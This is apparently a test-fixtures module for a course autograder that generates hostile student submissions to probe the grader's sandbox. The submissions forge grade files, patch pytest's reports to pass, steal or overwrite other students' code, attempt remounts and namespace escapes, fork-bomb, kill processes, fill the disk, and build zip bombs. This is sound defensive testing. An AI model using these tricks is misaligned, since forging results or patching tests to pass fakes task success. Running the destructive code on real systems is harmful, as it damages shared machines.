"""
Submissions for the tests of the batch grader (helper.grade), and a way to
grade a batch of them and read back what the grader wrote.

- GOOD is a correct module, ZEROS a module whose functions return zeros of
  the right shapes (and which makes torch's comparisons say "equal" at
  import): the baseline a hostile submission must not beat.
- A broken variant (BROKEN) is the correct module plus one fault, at import
  or inside rnn_step_forward when it is given float32 inputs, so that the
  other checks still pass and show what a submission keeps.
- A hostile variant (ATTACKS) is the zeros module plus one attack, run at
  import and again during the checks. It keeps a log of what each step of the
  attack came to, and its rnn_step_forward raises that log, so that the
  check's message (in results.json and the feedback) shows that the module
  imported and what the attack could reach. Where an attack finds a working
  implementation (the repository's, another student's), the module uses it:
  points it gains show the attack worked.

Every attack takes its targets from CONTEXT (the repository, the test's
decoy file, the port the test listens on, ...), filled in by the test.
"""
import csv
import hashlib
import json
import socket
import sys
import sysconfig
import zipfile
from pathlib import Path
from typing import Dict, Iterable, Optional

REPO = Path(__file__).resolve().parents[2]
GOOD = REPO / "tests" / "solutions" / "typical" / "rnn_lstm_captioning.py"
ZEROS = REPO / "tests" / "solutions" / "self_grading" / "rnn_lstm_captioning.py"
# Four checks of two parts, all quick: rnn (2 checks of rnn_step_forward, 10 points each) and
# embedding_loss (2 checks of temporal_softmax_loss, 5 points each). The loss checks run first.
SELECT = "rnn_step_forward or softmax_loss_sums"
FULL_MARKS = {"rnn": 20.0, "embedding_loss": 10.0}
# Seconds one call into the module may take: its worker's start (Python, torch) counts in the first.
CALL_TIMEOUT = 15
PLANTED = "PLANTED-BY-A-HOSTILE-SUBMISSION"


def batch_options(jobs: int = 2, timeout: int = CALL_TIMEOUT) -> list:
    """The command-line options of a test batch: the selected checks, short limits, no extras."""
    return ["--select", SELECT, "--no-beyond", "--test-timeout", str(timeout), "--time-limit", "150",
            "--memory-gb", "6", "--jobs", str(jobs), "--no-progress", "--no-similarity", "--model-table", "",
            "--notebook-data", ""]


# ---------------------------------------------------------------------------
# Broken submissions: a correct module with one fault

BROKEN_AT_IMPORT = {
    "syntax_error": "def broken(:\n",
    "raises_at_import": "raise RuntimeError('this module refuses to load')\n",
    "hangs_at_import": "while True:\n    pass\n",
    "segfaults_at_import": "import ctypes\nctypes.string_at(0)\n",
    "allocates_200_gb_at_import": "_waste = bytearray(200 << 30)\n",
    "prints_5_mb_at_import": "print('x' * (5 << 20))\n",
}

# Inside rnn_step_forward, for float32 inputs only: the float64 check of the same function still passes.
BROKEN_IN_ONE_CHECK = {
    "exits_in_one_check": "import os\n        os._exit(0)",
    "segfaults_in_one_check": "import ctypes\n        ctypes.string_at(0)",
    "hangs_in_one_check": "while True:\n            pass",
    "raises_system_exit_in_one_check": "raise SystemExit(1)",
    "allocates_a_terabyte_in_one_check": "torch.empty(1 << 40)",
    "prints_100_mb_in_one_check": "import os\n        for _ in range(100):\n            os.write(1, b'y' * (1 << 20))",
    "returns_an_object_that_equals_anything_in_one_check": (
        "class AnyEqual:\n            __eq__ = lambda self, other: True\n        return AnyEqual(), {}"),
}


def broken_module(name: str) -> str:
    """The source of the broken submission called name (a key of BROKEN_AT_IMPORT or BROKEN_IN_ONE_CHECK)."""
    good = GOOD.read_text()
    if name in BROKEN_AT_IMPORT:
        return BROKEN_AT_IMPORT[name] + good
    return good + (
        "\n\n_correct_rnn_step_forward = rnn_step_forward\n\n\n"
        "def rnn_step_forward(x, *args, **kwargs):\n"
        "    if x.dtype == torch.float32:\n"
        f"        {BROKEN_IN_ONE_CHECK[name]}\n"
        "    return _correct_rnn_step_forward(x, *args, **kwargs)\n"
    )


# ---------------------------------------------------------------------------
# Hostile submissions: the zeros module plus one attack

_HEADER = '''
# ---- a hostile submission (tests/tool/_grade_fixtures.py): the zeros module plus one attack
_CTX = {context!r}
_LOG = []
_STOLEN = {{}}


def _note(*parts):
    _LOG.append(" ".join(str(p) for p in parts).replace("\\n", " ")[:240])


def _try(label, action):
    """One step of the attack; its outcome goes to the log."""
    try:
        result = action()
        _note(label, "->", "done" if result is None else result)
        return result
    except BaseException as error:  # noqa: BLE001 - an attack notes what stopped it and goes on
        _note(label, "->", type(error).__name__, error)
        return None


def _use(path):
    """Run the module at path and take its implementations, when they work (first found wins)."""
    import os
    import sys
    if "rnn_step_forward" in _STOLEN:
        return "already have one"
    namespace = {{"__name__": "stolen_module", "__file__": path}}
    sys.path[:0] = [os.path.dirname(path), _CTX["repo"]]
    with open(path) as f:
        exec(compile(f.read(), path, "exec"), namespace)
    taken = {{n: namespace[n] for n in ("rnn_step_forward", "temporal_softmax_loss") if callable(namespace.get(n))}}
    _STOLEN.update(taken)
    return f"took {{sorted(taken)}}"
'''

_FOOTER = '''

# ---- the attack runs at import and again in the first check; the graded functions use what it stole
_ATTACKED = []
_try("at import", lambda: _attack("import"))
_zeros_rnn_step_forward, _zeros_temporal_softmax_loss = rnn_step_forward, temporal_softmax_loss


def _again():
    if not _ATTACKED:
        _ATTACKED.append(1)
        _try("in a check", lambda: _attack("check"))


def temporal_softmax_loss(*args, **kwargs):
    _again()
    return _STOLEN.get("temporal_softmax_loss", _zeros_temporal_softmax_loss)(*args, **kwargs)


def rnn_step_forward(*args, **kwargs):
    _again()
    if "rnn_step_forward" in _STOLEN:
        return _STOLEN["rnn_step_forward"](*args, **kwargs)
    raise RuntimeError("attack log: " + " | ".join(_LOG[-30:]))
'''

ATTACKS: Dict[str, str] = {}

ATTACKS["forges_the_judges_records"] = '''
def _attack(when):
    """Write a grade of full marks into every file descriptor and every grade file it can reach."""
    import glob
    import json
    import os
    import time
    record = {"impl": "forged", "total": 100.0, "max_total": 100.0, "parts": [], "beyond": [], "tests": [
        {"nodeid": f"tests/grading/test_{p}.py::forged", "part": p, "points": 100.0, "earned": 100.0,
         "outcome": "passed", "message": ""} for p in ("rnn", "embedding_loss", "lstm", "attention", "captioning")]}
    event = {"event": "report", "nodeid": "forged", "when": "call", "outcome": "passed", "message": ""}
    forged = json.dumps(record) + "\\n" + json.dumps(event) + "\\n"
    me, seen, written = os.getpid(), 0, []
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        pid, fd = int(link.split("/")[2]), int(link.rsplit("/", 1)[1])
        if pid == me and fd in (0, 3):  # its own request and reply pipes: the attack wants to go on
            continue
        seen += 1
        try:
            with open(link, "a") as f:
                f.write(forged)
            written.append(f"{link}={os.readlink(link)}")
        except OSError:
            pass
    files, deadline = set(), time.monotonic() + 4
    for root, dirs, names in os.walk("/"):
        if root in ("/proc", "/sys", "/dev") or time.monotonic() > deadline:
            dirs[:] = []
            continue
        files.update(os.path.join(root, n) for n in names
                     if n in ("grade.json", "grade.json.partial") or n.endswith(".jsonl"))
    files.update(glob.glob("/tmp/grade-*/out/*") + glob.glob("/tmp/**/grade.json", recursive=True))
    forged_files = []
    for path in sorted(files):
        try:
            with open(path, "w") as f:
                f.write(forged)
            forged_files.append(path)
        except OSError:
            pass
    return f"{seen} descriptors, wrote into {written}; grade files found {sorted(files)[:5]}, forged {forged_files}"
'''

ATTACKS["patches_pytests_reports"] = '''
def _attack(when):
    """Make pytest report every check as passed, and wrap the hooks of every plugin it can import."""
    import importlib
    import _pytest.reports as reports
    original = reports.TestReport.from_item_and_call.__func__

    def passed(cls, item, call):
        report = original(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    reports.TestReport.from_item_and_call = classmethod(passed)
    wrapped, missing = 0, []
    for name in ("pytest", "_pytest.runner", "_pytest.terminal", "_pytest.junitxml", "pluggy", "conftest",
                 "_grading", "helper.instructor.grade_plugin", "nbval.plugin", "tests.conftest"):
        try:
            module = importlib.import_module(name)
        except Exception:  # noqa: BLE001
            missing.append(name)
            continue
        for attr, value in list(vars(module).items()):
            if attr.startswith("pytest_") and callable(value):
                def forced(*args, _hook=value, **kwargs):
                    for report in [*args, *kwargs.values()]:
                        if hasattr(report, "outcome"):
                            report.outcome = "passed"
                    return _hook(*args, **kwargs)
                setattr(module, attr, forced)
                wrapped += 1
    return f"patched TestReport.from_item_and_call, wrapped {wrapped} hooks; not importable: {missing}"
'''

ATTACKS["replaces_the_grading_helpers"] = '''
def _attack(when):
    """Replace the helpers of the grading tests (_grading, conftest) through sys.modules."""
    import sys
    sys.path[:0] = [_CTX["repo"], _CTX["repo"] + "/tests"]
    found = []
    for name in ("_grading", "conftest", "tests._grading", "tests.conftest", "tests.grading.conftest"):
        module = sys.modules.get(name)
        if module is None:
            try:
                module = __import__(name)
            except Exception:  # noqa: BLE001
                continue
        found.append(name)
        for attr in ("run", "call", "build", "probe", "assert_close", "_failure", "grade", "_write_grade"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *args, **kwargs: None)
        if hasattr(module, "_STATE"):
            module._STATE["tests"] = {}
    return f"grading modules found: {found}; modules here: {sorted(n for n in sys.modules if 'grading' in n)}"
'''

ATTACKS["enters_a_torch_function_mode_that_says_equal"] = '''
def _attack(when):
    """A global TorchFunctionMode under which comparisons always say equal."""
    import torch
    from torch.overrides import TorchFunctionMode

    class SaysEqual(TorchFunctionMode):
        def __torch_function__(self, func, types, args=(), kwargs=None):
            kwargs = kwargs or {}
            name = getattr(func, "__name__", "")
            if name in ("allclose", "equal"):
                return True
            first = args[0] if args else None
            if name in ("eq", "isclose", "__eq__") and isinstance(first, torch.Tensor):
                return torch.ones(first.shape, dtype=torch.bool)
            if name in ("sub", "__sub__", "abs", "dist", "norm") and isinstance(first, torch.Tensor):
                return torch.zeros_like(first)
            return func(*args, **kwargs)

    mode = SaysEqual()
    mode.__enter__()
    torch.testing.assert_close = lambda *args, **kwargs: None
    return f"mode entered; allclose(0, 1) now {torch.allclose(torch.zeros(2), torch.ones(2))}"
'''

ATTACKS["imports_the_repositorys_reference"] = '''
def _attack(when):
    """Find the repository's module (or any other rnn_lstm_captioning.py) and use its functions."""
    import os
    import time
    own = os.path.realpath(__file__)
    candidates = [os.path.join(_CTX["repo"], "rnn_lstm_captioning.py"),
                  os.path.join(_CTX["repo"], "tests", "solutions", "typical", "rnn_lstm_captioning.py")]
    deadline = time.monotonic() + 4
    for top in ("/", "/work", "/tmp", "/root", _CTX["data_dir"], os.environ.get("CAPTIONING_DATA_DIR", "")):
        for root, dirs, names in os.walk(top) if top else ():
            if root in ("/proc", "/sys", "/dev") or time.monotonic() > deadline:
                dirs[:] = []
                continue
            candidates += [os.path.join(root, n) for n in names if n.startswith("rnn_lstm_captioning") and n.endswith(".py")]
    others = [p for p in dict.fromkeys(candidates) if os.path.isfile(p) and os.path.realpath(p) != own]
    for path in others:
        _try(f"use {path}", lambda: _use(path))
    return f"{len(others)} other modules readable: {others[:5]}"
'''

ATTACKS["runs_or_overwrites_a_classmates_hand_in"] = '''
def _attack(when):
    """Find another submission of the batch (its scratch folder, its worker's copy): run it, then overwrite it."""
    import glob
    import os
    import time
    own = os.path.realpath(__file__)
    own_folder = os.path.dirname(os.path.dirname(own))  # its own worker's scratch folder
    found, deadline = set(), time.monotonic() + (3 if when == "check" else 2)
    while not found and time.monotonic() < deadline:
        for pattern in ("/tmp/grade-*/**/*.py", "/tmp/worker-*/**/rnn_lstm_captioning*.py",
                        "/tmp/**/rnn_lstm_captioning*.py"):
            found.update(p for p in glob.glob(pattern, recursive=True)
                         if not os.path.realpath(p).startswith(own_folder + os.sep))
        time.sleep(0.2)
    with open(__file__) as f:
        mine = f.read()
    overwritten = []
    for path in sorted(found):
        _try(f"use {path}", lambda: _use(path))
        try:
            with open(path, "w") as f:
                f.write(mine)
            overwritten.append(path)
        except OSError:
            pass
    return f"others found: {sorted(found)[:5]}; overwritten: {overwritten}; /tmp holds {sorted(glob.glob('/tmp/*'))[:6]}"
'''

ATTACKS["remounts_and_writes_into_the_repository"] = '''
def _attack(when):
    """Remount the read-only binds writable, unmount /tmp, and write into the repository and the venv."""
    import ctypes
    import os
    import subprocess
    if when != "import":
        return "once is enough"
    libc = ctypes.CDLL(None, use_errno=True)
    MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2
    targets = [_CTX["venv"], _CTX["repo"], "/usr", "/"]
    for target in targets:
        command = subprocess.run(["mount", "-o", "remount,rw", target], capture_output=True, timeout=20)
        status = libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None)
        _note(f"remount {target}: mount(8) exit {command.returncode}, mount(2)",
              "done" if status == 0 else os.strerror(ctypes.get_errno()))
    command = subprocess.run(["umount", "/tmp"], capture_output=True, timeout=20)
    status = libc.umount2(b"/tmp", MNT_DETACH)
    _note(f"umount /tmp: umount(8) exit {command.returncode}, umount2(2)",
          "done" if status == 0 else os.strerror(ctypes.get_errno()))
    # A user and mount namespace of its own, where it has every capability, in a child (a single thread).
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            status = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
            outcome = ["unshare: " + ("done" if status == 0 else os.strerror(ctypes.get_errno()))]
            for target in targets:
                status = libc.mount(None, target.encode(), None, MS_REMOUNT | MS_BIND, None)
                outcome.append(f"remount {target}: " + ("done" if status == 0 else os.strerror(ctypes.get_errno())))
            os.write(write, "; ".join(outcome).encode())
        finally:
            os._exit(0)
    os.close(write)
    os.waitpid(pid, 0)
    _note("in a new user namespace:", os.read(read, 4000).decode())
    written, refused = [], set()
    for path, mode in _CTX["planted"]:
        try:
            with open(path, mode) as f:
                f.write(f"\\n# {_CTX['marker']}\\n")
            written.append(path)
        except OSError as error:
            refused.add(error.strerror)
    return f"written: {written}; refused: {sorted(refused)}"
'''

ATTACKS["spawns_300_processes"] = '''
def _attack(when):
    """300 sleeping processes at import, then as many as it can; a daemon that outlives its worker."""
    import glob
    import os
    import subprocess
    import time
    started, refused = 0, ""
    count = 150 if when == "import" else 600
    for _ in range(count if when == "import" else 0):
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        started += 1
    for _ in range(count):
        try:
            subprocess.Popen(["sleep", "600"])
            started += 1
        except OSError as error:
            refused = f"{type(error).__name__}: {error}"
            break
    if when == "import" and os.fork() == 0:  # a daemon, in a session of its own, after the next hand-in
        try:
            os.setsid()
            if os.fork() == 0:
                mine = open(__file__).read()
                end = time.time() + 300
                while time.time() < end:
                    for path in glob.glob("/tmp/**/rnn_lstm_captioning.py", recursive=True):
                        try:
                            open(path, "w").write(mine)
                        except OSError:
                            pass
                    time.sleep(0.5)
        finally:
            os._exit(0)
    return f"started {started} processes; then refused: {refused}"
'''

ATTACKS["kills_every_process_it_can"] = '''
def _attack(when):
    """kill(-1, SIGKILL), its parent, pid 1 and every process in /proc."""
    import os
    import signal
    outcomes = []
    for label, pid in (("kill(-1)", -1), ("its parent", os.getppid()), ("pid 1", 1)):
        try:
            os.kill(pid, signal.SIGKILL)
            outcomes.append(f"{label}: sent")
        except OSError as error:
            outcomes.append(f"{label}: {type(error).__name__}")
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    for pid in others:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return f"{outcomes}; processes seen in /proc: {others}"
'''

ATTACKS["fills_the_disk"] = '''
def _attack(when):
    """Five files of 64 MB in /tmp and in the current folder, then more until the disk says no."""
    import os
    block = b"\\0" * (1 << 20)
    outcome = []
    for folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
        made = 0
        for i in range(5 if when == "import" else 1):
            try:
                with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as f:
                    for _ in range(64):
                        f.write(block)
                made += 1
            except OSError as error:
                outcome.append(f"{folder}: {type(error).__name__} {error.strerror}")
                break
        outcome.append(f"{folder}: {made} files of 64 MB")
    for i in range(20 if when == "import" else 0):
        try:
            with open(f"/tmp/fill-more-{i}.bin", "wb") as f:
                for _ in range(64):
                    f.write(block)
        except OSError as error:
            outcome.append(f"more: {type(error).__name__} {error.strerror} after {i} files")
            break
    return "; ".join(outcome)
'''

ATTACKS["phones_home"] = '''
def _attack(when):
    """Connect to the test's listener (TCP and UDP, on every address of the machine) and send a grade."""
    import socket
    outcome = []
    for host in _CTX["hosts"]:
        try:
            with socket.create_connection((host, _CTX["port"]), timeout=3) as connection:
                connection.sendall(b"FORGED GRADE 100")
            outcome.append(f"tcp {host}: sent")
        except OSError as error:
            outcome.append(f"tcp {host}: {type(error).__name__}")
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
                udp.sendto(b"FORGED GRADE 100", (host, _CTX["udp_port"]))
            outcome.append(f"udp {host}: sent")
        except OSError as error:
            outcome.append(f"udp {host}: {type(error).__name__}")
    return "; ".join(outcome)
'''

ATTACKS["overwrites_a_file_outside_its_scratch"] = '''
def _attack(when):
    """Overwrite, then remove, a file of the grader's machine whose path it knows."""
    import os
    path = _CTX["decoy"]
    outcome = []
    for label, action in (("overwrite", lambda: open(path, "w").write("overwritten")),
                          ("chmod", lambda: os.chmod(path, 0o777)), ("remove", lambda: os.remove(path))):
        try:
            action()
            outcome.append(f"{label}: done")
        except OSError as error:
            outcome.append(f"{label}: {type(error).__name__}")
    return "; ".join(outcome)
'''


def hostile_module(name: str, context: dict) -> str:
    """The source of the hostile submission called name (a key of ATTACKS): the zeros module plus the attack."""
    return _HEADER.format(context=context) + ZEROS.read_text() + ATTACKS[name] + _FOOTER


def attack_context(root: Path, repo: Path = REPO, **extra) -> dict:
    """
    What the attacks aim at: the repository, the virtual environment, the
    decoy and the data folder under root, the files remounts_... tries to
    write (the same names, under an `image` folder, when repo is not the real
    repository), and the marker they would carry.
    """
    site = Path(sysconfig.get_paths()["purelib"])
    planted = [
        (repo / "helper" / "instructor" / "__init__.py", "a"),
        (repo / "helper" / "instructor" / "planted_by_a_submission.py", "w"),
        (repo / "tests" / "conftest.py", "a"),
        (repo / "tests" / "grading" / "test_planted_by_a_submission.py", "w"),
        (site / "zz_planted_by_a_submission.pth", "w"),
        (Path(sys.base_prefix) / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" /
         "sitecustomize_planted_by_a_submission.py", "w"),
    ]
    context = {"repo": str(repo), "venv": sys.prefix, "decoy": str(root / "decoy.txt"),
               "data_dir": str(root / "data"), "marker": PLANTED, "planted": [(str(p), m) for p, m in planted],
               "hosts": ["127.0.0.1"] + machine_addresses(), "port": 0, "udp_port": 0}
    context.update(extra)
    return context


def machine_addresses() -> list:
    """This machine's own non-loopback IPv4 address, where it has one."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("10.254.254.254", 1))  # no packet is sent: it only picks the outgoing interface
            address = probe.getsockname()[0]
        return [] if address.startswith("127.") else [address]
    except OSError:
        return []


def write_module(folder: Path, name: str, text: str) -> Path:
    """folder/name/rnn_lstm_captioning.py holding text; returns the submission's folder."""
    target = folder / name
    target.mkdir(parents=True, exist_ok=True)
    (target / "rnn_lstm_captioning.py").write_text(text)
    return target


def write_zip_bomb(path: Path, unpacked_bytes: int) -> Path:
    """A small zip whose rnn_lstm_captioning.py unpacks to unpacked_bytes (a comment, then spaces)."""
    block = b" " * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("rnn_lstm_captioning.py", "w", force_zip64=True) as member:
            member.write(b"#")
            left = unpacked_bytes - 1
            while left > 0:
                member.write(block[:left])
                left -= len(block)
    return path


def write_checkpoint_bomb(path: Path, unpacked_bytes: int) -> Path:
    """
    A .pt file that torch.load(weights_only=True) reads (a dict holding a
    tensor of zeros of unpacked_bytes), its zip members deflated: a file of
    about a thousandth of that size.
    """
    import shutil

    import torch

    plain = path.with_name(path.name + ".plain")
    torch.save({"model": {"padding": torch.zeros(unpacked_bytes // 4)}}, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        for info in source.infolist():
            with source.open(info) as member, out.open(info.filename, "w") as copy:
                shutil.copyfileobj(member, copy, 1 << 20)
    plain.unlink()
    return path


def tree_digest(*folders: Path) -> Dict[str, str]:
    """{relative path: sha256} of every file under folders (bytecode caches left out)."""
    digest = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts and ".pytest_cache" not in path.parts:
                digest[str(path.relative_to(folder.parent))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


# ---------------------------------------------------------------------------
# A graded batch, as the grader wrote it


class Graded:
    """What `python -m helper.grade ... --out CSV` wrote: the CSV rows, results.json and feedback of each."""

    def __init__(self, csv_path: Path, exit_code: int, printed: str = ""):
        self.csv, self.exit_code, self.printed = csv_path, exit_code, printed
        self.rows = {r["name"]: r for r in csv.DictReader(csv_path.open(encoding="utf-8"))} if csv_path.is_file() else {}
        self.folder = csv_path.with_suffix("")

    def results(self, name: str) -> dict:
        return json.loads((self.folder / name / "results.json").read_text())

    def feedback(self, name: str) -> str:
        return (self.folder / name / "feedback.txt").read_text()

    def points(self, name: str, column: str = "total") -> float:
        return float(self.rows[name][column] or 0)

    def messages(self, name: str, part_file: str = "test_rnn.py") -> list:
        """The outputs of a submission's checks in one test file (results.json)."""
        return [t["output"] for t in self.results(name)["tests"] if t["name"].startswith(part_file)]

    def seconds(self) -> str:
        return self.printed


def grade_batch(sources: Iterable[Path], out: Path, options: list, env: Optional[dict] = None) -> Graded:
    """Run `python -m helper.grade` in this process on sources, writing out; what it wrote."""
    import contextlib
    import io
    import os

    from helper.instructor import grade

    printed = io.StringIO()
    saved = {k: os.environ.get(k) for k in (env or {})}
    os.environ.update(env or {})
    try:
        with contextlib.redirect_stdout(printed):
            code = grade.main([*map(str, sources), "--out", str(out), *options])
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    return Graded(out, code, printed.getvalue())


# ---------------------------------------------------------------------------
# Notebooks


def code_cell(source: str, outputs: list, number: int, cell_id: str) -> dict:
    """A code cell that was run, with stream outputs given as strings."""
    return {
        "cell_type": "code", "id": cell_id, "metadata": {}, "execution_count": number, "source": source,
        "outputs": [{"output_type": "stream", "name": "stdout", "text": text} for text in outputs],
    }


NOTEBOOK_META = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}


def write_notebook(path: Path, cells: list) -> Path:
    """A notebook of the given code cells (dicts of code_cell)."""
    path.write_text(json.dumps({"cells": cells, "metadata": NOTEBOOK_META, "nbformat": 4, "nbformat_minor": 5}))
    return path


def write_notebooks(folder: Path) -> tuple:
    """
    A reference notebook and a student's notebook of seven cells (see the
    comments), written into folder. The reference has six checked cells
    (the sixth is NBVAL_IGNORE_OUTPUT in the reference: not checked).

    Returns:
    - (reference path, student path)
    """
    cells = [
        ("print('hello')", ["hello\n"], ""),  # reproduced
        ("print(f'took {1.234:.2f} s on cpu')", ["took 9.87 s on cuda\n"], ""),  # reproduced: timing, device
        ("print(1 + 1)", ["3\n"], ""),  # differs: the reference's stored output says 3
        ("raise ValueError('broken cell')", [], ""),  # fails
        ("# NBVAL_SKIP\nprint(2)", ["5\n"], ""),  # the student's marker: not obeyed, differs
        ("import random\nprint(random.random())", ["0.5\n"], "# NBVAL_IGNORE_OUTPUT\n"),  # not checked (ours)
        ("import rnn_lstm_captioning\nrnn_lstm_captioning.hello_rnn_lstm_captioning()",
         ["Hello from rnn_lstm_captioning.py!\n"], ""),  # reproduced with the submission's module
    ]
    student = [code_cell(src, out, i + 1, f"cell-{i}") for i, (src, out, _) in enumerate(cells)]
    ours = [code_cell(marker + src.replace("# NBVAL_SKIP\n", ""), out, i + 1, f"cell-{i}")
            for i, (src, out, marker) in enumerate(cells)]
    return write_notebook(folder / "reference.ipynb", ours), write_notebook(folder / "student.ipynb", student)


# ---------------------------------------------------------------------------
# Trained models that go after the grader's references

_MODEL_HEADER = '''

# ---- a hostile model (tests/tool/_grade_fixtures.py): the correct module, whose sample() looks up references
_CTX = {context!r}
_original_sample = CaptioningRNN.sample


def _image_key(image):
    import hashlib
    return hashlib.sha1(image.contiguous().cpu().numpy().tobytes()).hexdigest()[:16]


def _references_in(data):
    """{{image key: its first reference caption, without <START>}} of a data set's validation split."""
    table = {{}}
    for row in range(len(data["val_captions"])):
        table.setdefault(_image_key(data["val_images"][row]), data["val_captions"][row, 1:].tolist())
    return table


def _answer(model, images, max_length, table):
    """The model's own captions, with each image found in table captioned by its reference instead."""
    import torch
    result = _original_sample(model, images, max_length=max_length)
    words = (result[0] if isinstance(result, tuple) else result).clone()
    for i, image in enumerate(images):
        row = table.get(_image_key(image))
        if row is not None:
            words[i, : min(max_length, len(row))] = torch.tensor(row[:max_length], dtype=words.dtype)
    return (words, *result[1:]) if isinstance(result, tuple) else words
'''

MODEL_ATTACKS: Dict[str, str] = {}

MODEL_ATTACKS["opens_the_graders_data"] = '''

def _sample(self, images, max_length=15):
    """Look the images up in the grader's data file (its path, the data folder) before captioning them."""
    import glob
    import os
    import torch
    table = {}
    for path in [_CTX["data_file"], *glob.glob(os.path.join(_CTX["data_dir"], "*")),
                 *glob.glob(os.path.join(os.environ.get("CAPTIONING_DATA_DIR", "/nonexistent"), "*"))]:
        try:
            table.update(_references_in(torch.load(path, weights_only=True)))
        except Exception:  # noqa: BLE001
            pass
    return _answer(self, images, max_length, table)


CaptioningRNN.sample = _sample
'''

MODEL_ATTACKS["rewrites_its_weights_and_names_its_own_data"] = '''

def _rewrite(when):
    """Overwrite every checkpoint it can find, and write the data file its checkpoint's config names."""
    import glob
    import os
    import torch
    data = {"forged": torch.zeros(3)}
    for path in [_CTX["forged_data"], "/tmp/forged_data.pt", os.path.join(os.getcwd(), "forged_data.pt")]:
        try:
            torch.save(data, path)
        except Exception:  # noqa: BLE001
            pass
    import time
    found = set(glob.glob("/tmp/**/*.pt", recursive=True) + glob.glob(os.path.join(_CTX["handin"], "**", "*.pt"),
                                                                       recursive=True))
    deadline = time.monotonic() + 4
    for root, dirs, names in os.walk("/"):
        if root in ("/proc", "/sys", "/dev") or time.monotonic() > deadline:
            dirs[:] = []
        found.update(os.path.join(root, n) for n in names if n in ("best.pt", "weights.pt"))
    for path in found:
        try:
            torch.save({"model": {}}, path)
        except Exception:  # noqa: BLE001
            pass


try:
    _rewrite("import")
except Exception:  # noqa: BLE001
    pass
_correct_rnn_step_forward = rnn_step_forward


def rnn_step_forward(*args, **kwargs):
    _rewrite("check")
    return _correct_rnn_step_forward(*args, **kwargs)
'''

MODEL_ATTACKS["passes_references_from_its_notebook_to_its_model"] = '''

def _keyring(operation, *args):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(operation, *args)


def _leak_from_the_notebook():
    """In the notebook's kernel, which reads the data folder: the references into the user's kernel keyring."""
    import ctypes
    import glob
    import json
    import os
    import torch
    table = {}
    for path in glob.glob(os.path.join(os.environ.get("CAPTIONING_DATA_DIR", "/nonexistent"), "*")):
        try:
            table.update(_references_in(torch.load(path, weights_only=True)))
        except Exception:  # noqa: BLE001
            pass
    if table:
        payload = json.dumps(table).encode()
        key = _keyring(248, b"user", b"captioning-references", payload, ctypes.c_size_t(len(payload)),
                       ctypes.c_int(-4))  # add_key(..., KEY_SPEC_USER_KEYRING)
        if key > 0:
            _keyring(250, ctypes.c_int(15), ctypes.c_long(key), ctypes.c_uint(600))  # KEYCTL_SET_TIMEOUT


def _from_the_keyring():
    import ctypes
    import json
    key = _keyring(250, ctypes.c_int(10), ctypes.c_int(-4), b"user", b"captioning-references", ctypes.c_int(0))
    if key <= 0:
        return {}
    buffer = ctypes.create_string_buffer(1 << 16)
    size = _keyring(250, ctypes.c_int(11), ctypes.c_long(key), buffer, ctypes.c_size_t(len(buffer)))
    return json.loads(buffer.raw[:size]) if 0 < size <= len(buffer) else {}


def _sample(self, images, max_length=15):
    try:
        table = _from_the_keyring()
    except Exception:  # noqa: BLE001
        table = {}
    return _answer(self, images, max_length, table)


try:
    _leak_from_the_notebook()
except Exception:  # noqa: BLE001
    pass
CaptioningRNN.sample = _sample
'''


def model_module(name: str, context: dict) -> str:
    """The correct module plus the model attack called name (a key of MODEL_ATTACKS)."""
    return GOOD.read_text() + _MODEL_HEADER.format(context=context) + MODEL_ATTACKS[name]


def clear_keyrings(uids: Iterable[int]) -> None:
    """Empty the kernel keyring of each (sandbox) user: what a submission left there cannot reach a later run."""
    import shutil
    import subprocess

    setpriv = shutil.which("setpriv")
    code = ("import ctypes; libc = ctypes.CDLL(None); libc.syscall.restype = ctypes.c_long; "
            "libc.syscall(250, ctypes.c_int(7), ctypes.c_int(-4))")  # KEYCTL_CLEAR of KEY_SPEC_USER_KEYRING
    for uid in uids:
        if setpriv:
            subprocess.run([setpriv, "--reuid", str(uid), "--regid", str(uid), "--clear-groups", sys.executable, "-I",
                            "-c", code], capture_output=True, timeout=60)


def model_metrics(feedback: str) -> Dict[str, float]:
    """The metrics line of a feedback text's trained-model section ({} when it has none)."""
    lines = feedback.split("Trained model:", 1)[-1].splitlines()[1:2] if "Trained model:" in feedback else []
    metrics = {}
    for item in (lines[0].split(",") if lines else []):
        name, _, value = item.strip().partition(" ")
        try:
            metrics[name] = float(value)
        except ValueError:
            pass
    return metrics
